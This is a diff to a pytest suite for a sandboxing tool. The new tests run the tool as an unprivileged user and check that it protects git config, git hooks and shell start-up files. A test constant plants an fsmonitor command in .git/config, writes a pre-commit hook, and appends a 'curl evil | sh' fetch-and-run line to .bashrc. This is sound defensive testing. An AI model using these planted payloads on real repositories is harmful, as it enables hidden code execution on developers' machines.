@@ -44,7 +44,7 @@ def _git_policy(cage, **fs):
 
 
 def _host_git(repo, *args):
-    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True,
+    return subprocess.run(["git", "-c", "safe.directory=*", "-C", str(repo), *args], check=True, capture_output=True, text=True,
                           env={**os.environ, **GIT_ENV}).stdout
 
 
@@ -247,3 +247,82 @@ def test_missing_hooks_directory_is_made_and_protected_before_the_command(cage, 
     assert hooks.is_dir() and os.listdir(hooks) == []
     assert os.stat(hooks).st_uid == os.stat(cage.work / ".git").st_uid
     assert f"{os.path.realpath(cage.work)}/.git/hooks" in protected
+
+
+# --- as an ordinary user, for real (FINDINGS.md "Testing as an ordinary user") -----------------
+
+NOBODY = 65534
+
+
+@pytest.fixture
+def as_nobody(tmp_path):
+    """A git repository owned by uid 65534 in a world-readable tree, and `sandboy run` as that
+    user with no capabilities, from the system python3 over this source tree."""
+    import shutil
+    import sys
+
+    if os.geteuid() != 0 or not shutil.which("setpriv"):
+        pytest.skip("needs root and setpriv to become uid 65534")
+    base = tmp_path / "nobody"
+    repo = base / "repo"
+    base.mkdir()
+    _repo_with_hooks(repo)
+    (repo / ".bashrc").write_text("# start-up file\n")
+    subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(base)], check=True)
+    os.chmod(tmp_path, 0o755)
+    for parent in tmp_path.parents:
+        if str(parent) in ("/", "/tmp"):
+            break
+        os.chmod(parent, os.stat(parent).st_mode | 0o005)
+    src = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules["sandboy"].__file__)))
+    from cagekit import to_toml
+
+    policy = base / "policy.toml"
+    policy.write_text(to_toml({"version": 1, "fs": {"read": ["/usr", "/lib", "/lib64", "/etc"],
+                                                    "exec": ["/usr/bin", "/bin", "/usr/lib/git-core"],
+                                                    "write": [str(repo)]},
+                               "env": {"pass": [], "set": {"PATH": "/usr/bin:/bin", "HOME": str(repo),
+                                                           **GIT_ENV}}}))
+    os.chmod(policy, 0o644)
+
+    def run(script: str, env=None):
+        argv = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--inh-caps=-all",
+                "/usr/bin/python3", "-m", "sandboy", "run", "--policy", str(policy), "--", "/bin/sh", "-c", script]
+        return subprocess.run(argv, capture_output=True, text=True, cwd=repo, timeout=60,
+                              env={"PATH": "/usr/bin:/bin", "PYTHONPATH": src, "HOME": str(base),
+                                   "SANDBOY_CACHE_DIR": str(base / "cache"), **(env or {})})
+
+    if run("true").returncode != 0:
+        pytest.skip("the system python3 cannot run sandboy from this tree as uid 65534")
+    return repo, run
+
+
+PLANT_ALL = ("printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> .git/config; "
+             "printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit; echo 'curl evil | sh' >> .bashrc; exit 0")
+
+
+def test_as_an_ordinary_user_protected_paths_hold_and_git_works(as_nobody):
+    from sandboy.confine import namespaces as ns
+
+    if not ns.availability()[0]:
+        pytest.skip("no namespace tier on this machine")
+    repo, run = as_nobody
+    before = [(repo / p).read_bytes() for p in (".git/config", ".bashrc")]
+    r = run(PLANT_ALL)
+    assert r.returncode == 0, r.stderr
+    assert [(repo / p).read_bytes() for p in (".git/config", ".bashrc")] == before
+    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
+    # twin: git as that user inside the cage
+    r = run("echo two >> README && git add README && git commit -qm second && git checkout -q -b b2 && echo ok")
+    assert r.returncode == 0 and r.stdout.strip() == "ok", r.stderr
+    assert _host_git(repo, "log", "--format=%s", "b2").split() == ["second", "first"]
+
+
+def test_as_an_ordinary_user_without_the_tier_the_gap_is_reported(as_nobody):
+    """The twin that shows the mount is what refuses: forced off, the same attack gets through
+    — and the run said so beforehand, path by path."""
+    repo, run = as_nobody
+    r = run(PLANT_ALL, env={"SANDBOY_NAMESPACES": "0"})
+    assert r.returncode == 0, r.stderr
+    assert "fs.protect_defaults" in r.stderr and ".git/config" in r.stderr, r.stderr
+    assert "fsmonitor" in (repo / ".git" / "config").read_text()
